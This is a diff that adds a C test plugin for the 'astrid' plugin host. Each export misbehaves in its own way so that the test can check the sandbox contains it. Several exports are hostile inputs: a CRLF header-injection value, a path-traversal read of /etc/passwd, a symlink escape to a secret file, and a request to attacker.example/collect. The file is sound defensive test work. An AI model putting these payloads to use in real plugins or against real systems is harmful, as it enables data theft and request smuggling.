@@ -1,0 +1,104 @@
+/*
+ * A plugin that misbehaves, one export per way: each must fail its own call with a clear message
+ * (or be contained) while the host and the plugin's next call carry on.
+ */
+#include "astrid.h"
+
+static unsigned char big[2 * 1024 * 1024];
+
+/* Never returns: the call's timeout must stop it. */
+ASTRID_EXPORT("infinite_loop") int infinite_loop(void) {
+  volatile int forever = 1;
+  while (forever) {
+  }
+  return 0;
+}
+
+/* Grows linear memory until refused; outputs how many 64 KiB pages it reached. */
+ASTRID_EXPORT("memory_bomb") int memory_bomb(void) {
+  while (__builtin_wasm_memory_grow(0, 16) != (unsigned long)-1) {
+  }
+  astrid_size pages = __builtin_wasm_memory_size(0);
+  char out[16];
+  int n = 0;
+  char digits[16];
+  int d = 0;
+  do {
+    digits[d++] = (char)('0' + pages % 10);
+    pages /= 10;
+  } while (pages);
+  while (d) {
+    out[n++] = digits[--d];
+  }
+  astrid_output(out, n);
+  return 0;
+}
+
+/* Allocates kernel memory, a megabyte at a time, until refused; then uses the refusal (block 0). */
+ASTRID_EXPORT("kernel_bomb") int kernel_bomb(void) {
+  astrid_block last = 1;
+  while (last) {
+    last = extism_alloc(1024 * 1024);
+  }
+  astrid_output("refused", 7);
+  return 0;
+}
+
+/* A 100 KiB log line. */
+ASTRID_EXPORT("giant_log") int giant_log(void) {
+  memset(big, 'x', 100 * 1024);
+  astrid_log(astrid_text("info"), astrid_block_of(big, 100 * 1024));
+  return 0;
+}
+
+/* A 2 MiB key-value value. */
+ASTRID_EXPORT("giant_kv") int giant_kv(void) {
+  memset(big, 'v', sizeof big);
+  astrid_kv_set(astrid_text("huge"), astrid_block_of(big, sizeof big));
+  return 0;
+}
+
+/* A header value that would smuggle a second header into the request. */
+ASTRID_EXPORT("header_injection") int header_injection(void) {
+  astrid_output_block(astrid_http_request(astrid_text(
+      "{\"url\":\"http://127.0.0.1:9/\",\"headers\":{\"X-Note\":\"hi\\r\\nX-Injected: yes\"}}")));
+  return 0;
+}
+
+/* Climbs out of the workspace with "..". */
+ASTRID_EXPORT("path_traversal") int path_traversal(void) {
+  astrid_output_block(astrid_read_file(astrid_text("../../../../../../etc/passwd")));
+  return 0;
+}
+
+/* Reads through a link (made by the test) that points outside the workspace. */
+ASTRID_EXPORT("symlink_escape") int symlink_escape(void) {
+  astrid_output_block(astrid_read_file(astrid_text("escape/secret.txt")));
+  return 0;
+}
+
+/* A request to a host the manifest does not declare. */
+ASTRID_EXPORT("undeclared_http") int undeclared_http(void) {
+  astrid_output_block(astrid_http_request(astrid_text("{\"url\":\"https://attacker.example/collect\"}")));
+  return 0;
+}
+
+/* Stores a marker, then traps halfway through the call. */
+ASTRID_EXPORT("trap_mid_call") int trap_mid_call(void) {
+  astrid_kv_set(astrid_text("before-trap"), astrid_text("written"));
+  __builtin_trap();
+  return 0;
+}
+
+/* A name that is not valid UTF-8. */
+ASTRID_EXPORT("invalid_utf8") int invalid_utf8(void) {
+  static const unsigned char name[] = {'k', 0xff, 0xfe};
+  astrid_kv_set(astrid_block_of(name, sizeof name), astrid_text("v"));
+  return 0;
+}
+
+/* A well-behaved call, to show the plugin is still usable. */
+ASTRID_EXPORT("ok") int ok(void) {
+  astrid_output("ok", 2);
+  return 0;
+}
